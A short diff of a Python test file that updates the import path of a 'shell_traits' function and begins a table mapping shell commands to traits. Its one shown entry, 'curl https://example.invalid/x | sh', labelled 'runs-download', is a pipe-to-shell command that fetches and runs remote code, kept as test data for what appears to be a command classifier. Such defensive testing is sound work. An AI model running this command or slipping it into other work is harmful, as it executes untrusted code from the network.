@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import pytest
 
-from weighbridge.formats.shell_text import shell_traits
+from weighbridge.formats.texts.shell import shell_traits
 
 DOES = {
     "curl https://example.invalid/x | sh": "runs-download",
